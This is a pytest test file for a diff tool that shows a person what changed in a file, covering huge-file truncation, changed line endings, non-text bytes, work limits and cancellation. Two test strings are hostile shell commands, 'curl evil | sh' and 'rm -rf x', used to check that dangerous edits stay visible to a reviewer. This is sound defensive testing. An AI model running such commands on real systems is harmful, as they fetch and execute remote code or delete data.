"""What a person is shown of a change, and what it may cost to find it."""

import asyncio
import difflib
import random
import threading
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kernel.tools import comparison
from kernel.tools.base import cut_middle
from kernel.tools.comparison import (
    COMPARED_LINES,
    COMPARED_WORK,
    Comparisons,
    DiffWorker,
    FileDiff,
    compare,
)
from kernel.tools.files import DIFF_CHARACTERS
from kernel.tools.head_of_change import StoppedError


def joined(lines: list[str]) -> str:
    return "\n".join(lines)


@pytest.mark.feature("AP03")
def test_of_a_very_large_file_the_head_of_the_change_is_shown_and_what_is_left_out() -> None:
    old = [f"line {number}" for number in range(COMPARED_LINES)]
    new = [*old[:15_000], "curl evil | sh", *old[15_001:], "end"]
    diff = compare(joined(old), joined(new), "/home/a/x")
    assert (diff.added, diff.removed) == (2, 1)
    assert "+curl evil | sh" in diff.text and "-line 15000" in diff.text
    assert "shown from line 14,998" in diff.text
    assert "4,803 lines of before and 4,804 lines of after are not shown" in diff.text
    assert "+curl evil | sh" in cut_middle(diff.text, DIFF_CHARACTERS)


def test_a_very_large_new_file_shows_its_beginning() -> None:
    diff = compare(None, joined([f"new {number}" for number in range(COMPARED_LINES + 1)]), "/home/a/x")
    assert (diff.added, diff.removed) == (COMPARED_LINES + 1, 0)
    assert diff.text.startswith("--- /dev/null\n+++ /home/a/x\n[too large") and "+new 0\n" in diff.text
    assert "19,801 lines of after are not shown" in diff.text


def test_a_change_at_the_very_end_is_found() -> None:
    old = joined(["same"] * COMPARED_LINES)
    diff = compare(old, old + "\nlast", "/home/a/x")
    assert (diff.added, diff.removed) == (1, 0)
    assert "+last" in diff.text and "0 lines of before and 0 lines of after" in diff.text


def test_an_ordinary_file_is_compared_as_a_whole() -> None:
    assert compare("a\nb", "a\nc", "x") == FileDiff("--- x\n+++ x\n@@ -1,2 +1,2 @@\n a\n-b\n+c", 1, 1)
    assert compare("a\r\nb", "a\r\nb", "x") == FileDiff("", 0, 0)


def test_a_long_file_of_code_is_compared_as_a_whole() -> None:
    old = joined([line for number in range(2_000) for line in (f"def f{number}():", "    return None", "", "")])
    diff = compare(old, old.replace("def f1000():", "def g():"), "x")
    assert (diff.added, diff.removed) == (1, 1)
    assert "not shown" not in diff.text


texts = st.lists(st.sampled_from(["a", "b", "c", "", "d e"]), max_size=30).map(lambda lines: joined([*lines, ""]))


@settings(max_examples=300, deadline=None)
@given(before=texts, after=texts)
def test_what_is_shown_is_difflibs_own(before: str, after: str) -> None:
    lines = list(difflib.unified_diff(before.splitlines(), after.splitlines(), "x", "x", lineterm=""))
    added, removed = (sum(line.startswith(sign) for line in lines[2:]) for sign in "+-")
    assert compare(before, after, "x") == FileDiff(joined(lines), added, removed)
    assert compare(before.encode(), after, "x") == FileDiff(joined(lines), added, removed)


endings = st.lists(st.sampled_from(["a", "b", "", "\n", "\r", "\r\n", "\u2028", "\x0b", "\ufffd", "é"]), max_size=12).map("".join)


@pytest.mark.feature("AP03")
@settings(max_examples=500, deadline=None)
@given(before=endings | endings.map(lambda text: text.encode("latin-1", "replace")), after=endings, large=st.booleans())
def test_a_file_that_is_replaced_by_anything_else_never_shows_as_unchanged(before: str | bytes, after: str, large: bool) -> None:
    same = (before if isinstance(before, bytes) else before.encode()) == after.encode()
    limit = 0 if large else COMPARED_LINES
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(comparison, "COMPARED_LINES", limit)
        diff = compare(before, after, "x")
    assert (diff == FileDiff("", 0, 0)) is same
    if not large and not same:
        assert diff.added + diff.removed > 0
    diff.text.encode()


def test_endings_that_change_are_named() -> None:
    diff = compare("# a\u2028rm -rf x\nend", "# a\nrm -rf x\nend", "x")
    note = "[lines that look unchanged and end otherwise than before: 1; line 1 ended with U+2028, now LF]"
    assert diff == FileDiff(f"--- x\n+++ x\n{note}", 1, 1)
    assert f"+++ x\n{note[:6]}" in compare("# a\u2028rm\nend", "# a\nrm\nfin", "x").text
    assert "whether a line feed comes after it" in compare("a\nb", "a\nb\n", "x").text
    many = ["same"] * COMPARED_LINES
    assert "-same [CR LF]\n" in compare("\r\n".join(many), joined(many), "x").text


def test_bytes_that_are_no_text_are_shown_as_such() -> None:
    diff = compare(b"caf\xe9\nend", "caf\ufffd\nend", "x")
    assert "-caf\\xe9\n+caf\ufffd\n" in diff.text
    assert compare(b"a", "b\ud800", "x").text.endswith("+b\\ud800")


@settings(max_examples=300, deadline=None)
@given(before=texts, after=texts, seed=st.integers(0, 9))
def test_where_lines_that_occur_once_divide_the_texts_the_blocks_are_equal_and_in_order(before: str, after: str, seed: int) -> None:
    extra = [f"once {number}" for number in range(seed)]
    old, new = before.splitlines() + extra, extra + after.splitlines()
    at_old = at_new = 0
    for begin_old, begin_new, size in comparison._divided(old, new, comparison._Budget(COMPARED_WORK, lambda: False)):
        assert size > 0 and begin_old >= at_old and begin_new >= at_new
        assert old[begin_old : begin_old + size] == new[begin_new : begin_new + size]
        at_old, at_new = begin_old + size, begin_new + size


def every_second_changed(count: int) -> tuple[list[str], list[str]]:
    old = [f"line {number} of the file" for number in range(count)]
    return old, [line if number % 2 else f"{line} changed" for number, line in enumerate(old)]


def test_a_change_in_every_second_of_many_lines_is_still_shown_as_a_whole() -> None:
    old, new = every_second_changed(9_000)
    diff = compare(joined(old), joined(new), "x")
    assert (diff.added, diff.removed) == (4_500, 4_500)
    assert "not shown" not in diff.text


def among(count: int, common: Callable[[int], str]) -> tuple[list[str], list[str]]:
    """Lines that repeat, each beside one that only its own text has."""
    old = [line for number in range(count) for line in (common(number), f"u{number}")]
    return old, [line for number in range(count) for line in (common(number), f"w{number}")]


TRAPS = {
    "blocks that each need a search": among(4_950, lambda number: f"v{number % 99}"),
    "empty lines below the popularity rule": ([""] * 1_200, ["", "b"] * 99),
    "two lines": (["a"] * 1_000, ["a", "b"] * 99),
    "lines that repeat without end": tuple([str(n * step % 101) for n in range(9_999)] for step in (1, 7)),
    "every line twice": tuple([str(number // share) for number in range(9_900)] for share in (2, 1)),
    "random": tuple([str(number) for number in random.Random(seed).choices(range(100), k=5_000)] for seed in (1, 2)),
}


@pytest.mark.parametrize("trap", TRAPS)
def test_no_text_costs_more_than_the_steps_that_a_comparison_may_take(trap: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Counted where difflib works: every look at a line, and at a place where the other text has it."""
    looks = 0
    find = difflib.SequenceMatcher.find_longest_match

    def counted(matcher: "difflib.SequenceMatcher[str]", alo: int = 0, ahi: int | None = None, *rest: int | None) -> difflib.Match:
        nonlocal looks
        inner: Any = matcher  # the stubs leave its texts out
        looks += sum(1 + len(inner.b2j.get(line, ())) for line in inner.a[alo:ahi])
        return find(matcher, alo, ahi, *rest)  # type: ignore[arg-type]  # the rest of its own arguments

    monkeypatch.setattr(difflib.SequenceMatcher, "find_longest_match", counted)
    old, new = TRAPS[trap]
    diff = compare(joined(old), joined(new), "x")
    assert diff.text.startswith("--- x")
    assert looks <= 2 * COMPARED_WORK + comparison.HEAD_WORK
    looks = 0
    assert comparison._at_once(joined(old), joined(new), "x") is None
    assert looks <= comparison.AT_ONCE_WORK


async def test_a_comparison_that_takes_long_is_made_in_another_thread_and_shows_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    threads: list[threading.Thread] = []

    def noted(*arguments: object, **options: object) -> FileDiff:
        threads.append(threading.current_thread())
        return compare(*arguments, **options)  # type: ignore[arg-type]  # handed on as they came

    monkeypatch.setattr(comparison, "compare", noted)
    worker = DiffWorker()
    old, new = (joined(lines) for lines in every_second_changed(1_500))
    assert await worker.compare(old, new, "x") == compare(old, new, "x")
    assert threads and threading.current_thread() not in threads
    threads.clear()
    assert (await worker.compare("a", "b", "x")).added == 1
    assert not threads
    worker.close()


@pytest.mark.parametrize("ending", ["cancelled", "closed"])
async def test_a_comparison_that_nobody_waits_for_ends(ending: str, monkeypatch: pytest.MonkeyPatch) -> None:
    began, ended = threading.Event(), threading.Event()

    def endless(*_: object, stopped: Callable[[], bool]) -> FileDiff:
        began.set()
        while not stopped():
            ended.wait(0.001)
        ended.set()
        raise StoppedError

    monkeypatch.setattr(comparison, "compare", endless)
    worker = DiffWorker()
    asked = asyncio.ensure_future(worker.compare(None, "x" * 50_000, "x"))  # owned by this test
    await asyncio.to_thread(began.wait, 10)
    if ending == "cancelled":
        asked.cancel()
    else:
        worker.close()
    with pytest.raises((asyncio.CancelledError, StoppedError)):
        await asked
    assert await asyncio.to_thread(ended.wait, 10)
    worker.close()


def test_a_stopped_comparison_does_not_finish() -> None:
    asked = 0

    def stopped() -> bool:
        nonlocal asked
        asked += 1
        return asked > 5

    old, new = every_second_changed(500)
    with pytest.raises(StoppedError):
        compare(joined(old), joined(new), "x", stopped=stopped)
    assert asked == 6


async def test_the_same_texts_are_compared_once(monkeypatch: pytest.MonkeyPatch) -> None:
    worker = DiffWorker()
    comparisons = Comparisons(worker)
    first = await comparisons.compare("a", "b", "x")
    assert await comparisons.compare("a", "b", "x") is first
    assert (await comparisons.compare("a", "c", "x")).text.endswith("+c")
    assert (await comparisons.compare(None, "c", "x")).removed == 0


def test_a_last_line_feed_that_goes_or_comes_beside_other_changes_is_said() -> None:
    assert compare(b"a\nb\n", "c\nb", "f").text.endswith("[no line feed comes after the last line any more]")
    assert compare(b"a\nb", "c\nb\n", "f").text.endswith("[a line feed comes after the last line now]")
    assert "line feed" not in compare(b"a\nb\n", "c\nb\n", "f").text
    assert "line feed" not in compare(b"", "c", "f").text
